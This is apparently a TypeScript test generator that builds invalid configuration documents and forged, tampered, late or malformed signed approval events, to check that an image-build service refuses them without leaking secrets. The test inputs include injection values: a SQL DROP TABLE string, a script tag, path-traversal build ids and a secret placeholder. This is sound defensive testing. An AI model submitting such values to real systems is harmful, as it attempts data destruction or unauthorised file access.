      'customizer of an unknown type',
      (doc) => setAt(doc, ['build', 'customizers', 0, 'type'], 'Ansible'),
      'build.customizers[0].type',
    );

    // Cadences.
    for (const expression of [
      'not a cron at all',
      '61 * * * *',
      '* * * * * * *',
      '0 6 * * MON-FRI-SUN',
      '${FACTORY_CLIENT_SECRET}',
    ])
      add(
        base,
        `cron ${JSON.stringify(expression)}`,
        (doc) => setAt(doc, ['cadence'], { kind: 'cron', expression }),
        'cadence.expression',
        {
          mustNotEcho: [env.FACTORY_CLIENT_SECRET ?? '(no secret in env)'],
        },
      );
    add(
      base,
      'cadence of an unknown kind',
      (doc) => setAt(doc, ['cadence', 'kind'], 'monthly'),
      'cadence.kind',
    );
    add(
      base,
      'weekly on day 7',
      (doc) => setAt(doc, ['cadence'], { kind: 'weekly', dayOfWeek: 7, at: '06:00' }),
      'cadence.dayOfWeek',
    );

    // Unknown fields, named by the object that holds them.
    const holders: (string | number)[][] = [
      [],
      ['build'],
      ['image'],
      ['stages', random.int(3)],
      ['stages', 0, 'gallery'],
      ['cadence'],
      ['test', 'scripts', 0],
    ];
    for (const holder of holders) {
      const field = random.pick([
        'colour',
        'replica',
        'vmsize',
        ...INJECTIONS.filter((s) => s.trim() !== ''),
      ]);
      add(
        base,
        `unknown field ${JSON.stringify(field)} in ${printPath(holder) || '(root)'}`,
        (doc) => {
          const node = holder.length === 0 ? doc : getAt(doc, holder);
          (node as Doc)[field] = 'x';
        },
        printPath(holder) || '(root)',
        {
          message: new RegExp(`Unrecognized key.*"${field.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}"`),
        },
      );
    }
    const longField = longString(random);
    add(
      base,
      'unknown field with a 10k-character name',
      (doc) => {
        (doc.build as Doc)[longField] = 'x';
      },
      'build',
      { message: /Unrecognized key/, mustNotEcho: [longField] },
    );
  }
  return cases;
}

// ---------------------------------------------------------------------------------------------
// Approval decisions
// ---------------------------------------------------------------------------------------------

export interface DecisionCase {
  name: string;
  /** As the trigger may hand it over: object, JSON text or bytes. */
  body: unknown;
  reason: RefusalReason;
  /** The refusal's detail must say this (e.g. the path of a malformed field). */
  detail?: string;
  /** Processed after the request's deadline. */
  late?: boolean;
  mustNotEcho: string[];
}

const randomKey = (random: Random) => Buffer.from(Array.from({ length: 32 }, () => random.int(256)));

export function generateDecisionCases(
  random: Random,
  pending: ApprovalRequest,
  key: Buffer,
  nowIso: string,
): DecisionCase[] {
  const cases: DecisionCase[] = [];
  let serial = 0;
  const eventId = () => `evt-${random.letters(8)}-${serial++}`;
  const decision = (overrides: Partial<ApprovalDecision> = {}): ApprovalDecision => ({
    requestId: pending.requestId,
    buildId: pending.buildId,
    stage: pending.stage,
    imageVersion: pending.imageVersion,
    decision: random.pick(['approved', 'rejected'] as const),
    approver: random.pick(['jane.doe', 'sam@contoso.com']),
    changeTicket: `CHG${100000 + random.int(900000)}`,
    decidedAt: nowIso,
    ...overrides,
  });
  const event = (
    data: ApprovalDecision,
    signingKey: Buffer | null = key,
    id = eventId(),
  ): Record<string, unknown> => ({
    ...toDecisionEvent(data, {
      id,
      source: '/servicenow/change',
      time: nowIso,
      ...(signingKey === null ? {} : { signingKey }),
    }),
  });
  const add = (name: string, body: unknown, reason: RefusalReason, extra: Partial<DecisionCase> = {}) =>
    cases.push({ name, body, reason, mustNotEcho: [], ...extra });

  // Forged: another key, or the data or id changed after signing.
  for (let i = 0; i < 3; i++)
    add(`signed with another key #${i}`, event(decision(), randomKey(random)), 'bad-signature');
  const tampers: [string, (e: Record<string, unknown>, d: ApprovalDecision) => void][] = [
    [
      'decision flipped',
      (e, d) => (e.data = { ...d, decision: d.decision === 'approved' ? 'rejected' : 'approved' }),
    ],
    ['approver changed', (e, d) => (e.data = { ...d, approver: 'mallory' })],
    ['change ticket changed', (e, d) => (e.data = { ...d, changeTicket: 'CHG0000000' })],
    ['comment added', (e, d) => (e.data = { ...d, comment: 'looks fine' })],
    [
      'decidedAt changed',
      (e, d) => (e.data = { ...d, decidedAt: new Date(Date.parse(d.decidedAt) - 1000).toISOString() }),
    ],
    ['id changed', (e) => (e.id = `${String(e.id)}-2`)],
  ];
  for (const [name, tamper] of tampers) {
    const data = decision();
    const body = event(data);
    tamper(body, data);
    add(`tampered after signing: ${name}`, body, 'bad-signature');
  }
  for (let i = 0; i < 2; i++)
    add(
      `random signature #${i}`,
      { ...event(decision()), signature: randomKey(random).toString('base64') },
      'bad-signature',
    );
  const other = event(decision());
  add('signature of another event', { ...event(decision()), signature: other.signature }, 'bad-signature');
  add('forged as JSON text', JSON.stringify(event(decision(), randomKey(random))), 'bad-signature');
  add('forged as bytes', Buffer.from(JSON.stringify(event(decision(), randomKey(random)))), 'bad-signature');

  // Unsigned while a key is configured.
  add('unsigned approval', event(decision({ decision: 'approved' }), null), 'unsigned');
  add('unsigned rejection', event(decision({ decision: 'rejected' }), null), 'unsigned');
  const signed = event(decision());
  add('sigalg without signature', { ...signed, signature: undefined }, 'unsigned');
  add('signature without sigalg', { ...signed, sigalg: undefined }, 'unsigned');

  // Well signed, but not the pending request: wrong stage, version, request, build.
  for (const stage of ['PROD', 'ENG', pending.stage.toLowerCase(), `${pending.stage}2`])
    add(`wrong stage ${stage}`, event(decision({ stage })), 'mismatch', { detail: 'stage' });
  for (const imageVersion of ['0.0.1', `${pending.imageVersion}.1`, lookAlike(pending.imageVersion, random)])
    add(`wrong version ${imageVersion}`, event(decision({ imageVersion })), 'mismatch', {
      detail: 'imageVersion',
    });
  for (const requestId of [`${pending.requestId}x`, `${pending.buildId}:${pending.stage}:9`])
    add(`wrong request ${requestId}`, event(decision({ requestId })), 'mismatch', { detail: 'requestId' });
  for (const buildId of [`${pending.buildId}x`, `other-${random.letters(6)}`])
    add(
      `wrong build ${buildId}`,
      event(decision({ buildId, requestId: `${buildId}:${pending.stage}:1` })),
      'no-pending-request',
    );
  // Ids no Durable URL can carry: refused by the schema, before any call to Durable (issue 14).
  for (const buildId of ['../../instances', `${pending.buildId}/..`, '.'])
    add(`build id ${buildId}`, { ...event(decision()), data: decision({ buildId }) }, 'malformed', {
      detail: 'data.buildId',
    });

  // Late: processed after the deadline, or decided after it.
  add('processed after the deadline', event(decision()), 'late', { late: true });
  add('rejection processed after the deadline', event(decision({ decision: 'rejected' })), 'late', {
    late: true,
  });
  const afterDeadline = new Date(Date.parse(pending.deadline) + 60_000).toISOString();
  add('decided after the deadline', event(decision({ decidedAt: afterDeadline })), 'late');

  // Malformed CloudEvents.
  const valid = () => event(decision());
  for (const field of ['specversion', 'id', 'source', 'type', 'time', 'datacontenttype', 'data']) {
    const body = valid();
    delete body[field];
    add(`no ${field}`, body, 'malformed', { detail: field });
  }
  const envelopeBreaks: [string, unknown][] = [
    ['specversion', '0.3'],
    ['type', 'com.imagefactory.approval.requested'],
    ['datacontenttype', 'text/plain'],
    ['time', 'yesterday'],
    ['id', ''],
    ['source', longString(random)],
    ['sigalg', 'none'],
    ['signature', 'abc'],
    ['data', 'approved'],
  ];
  for (const [field, value] of envelopeBreaks)
    add(`${field} = ${JSON.stringify(value).slice(0, 30)}`, { ...valid(), [field]: value }, 'malformed', {
      detail: field,
      mustNotEcho: typeof value === 'string' && value.length >= 1000 ? [value] : [],
    });
  for (const field of [
    'requestId',
    'buildId',
    'stage',
    'imageVersion',
    'decision',
    'approver',
    'changeTicket',
    'decidedAt',
  ]) {
    const body = valid();
    const data = { ...(body.data as Record<string, unknown>) };
    delete data[field];
    add(`no data.${field}`, { ...body, data }, 'malformed', { detail: `data.${field}` });
  }
  const long = longString(random);
  const dataBreaks: [string, unknown][] = [
    ['decision', 'maybe'],
    ['decision', 'APPROVED'],
    ['decision', true],
    ['approver', long],
    ['comment', longString(random)],
    ['decidedAt', '2026-13-01T00:00:00Z'],
    ['buildId', random.pick(['<script>', "'; DROP TABLE builds; --", 'a b', '%APPDATA%'])],
    ['stage', random.pick(['${STAGE}', 'a\u0000b', '🙂'])],
    ['requestId', ''],
    ['changeTicket', null],
  ];
  for (const [field, value] of dataBreaks)
    add(
      `data.${field} = ${JSON.stringify(value).slice(0, 30)}`,
      { ...valid(), data: { ...(valid().data as Record<string, unknown>), [field]: value } },
      'malformed',
      {
        detail: `data.${field}`,
        mustNotEcho: typeof value === 'string' && value.length >= 1000 ? [value] : [],
      },
    );
  add(
    'extra field in data',
    { ...valid(), data: { ...(valid().data as Record<string, unknown>), approvedBy: 'x' } },
    'malformed',
    {
      detail: 'approvedBy',
    },
  );
  add('extra envelope attribute', { ...valid(), priority: 'high' }, 'malformed', { detail: 'priority' });
  const longField = longString(random);
  add('extra field with a 10k-character name', { ...valid(), [longField]: 1 }, 'malformed', {
    mustNotEcho: [longField],
  });
  const notEvents: [string, unknown][] = [
    ['null', null],
    ['a number', 42],
    ['an array', [valid()]],
    ['an empty string', ''],
    ['text that is not JSON', 'approve it please'],
    ['truncated JSON text', JSON.stringify(valid()).slice(0, 50)],
    ['random bytes', Buffer.from(Array.from({ length: 48 }, () => random.int(256)))],
    ['a JSON string', JSON.stringify(JSON.stringify(valid()))],
    ['an empty object', {}],
  ];
  for (const [name, body] of notEvents) add(`body is ${name}`, body, 'malformed');
  return cases;
}
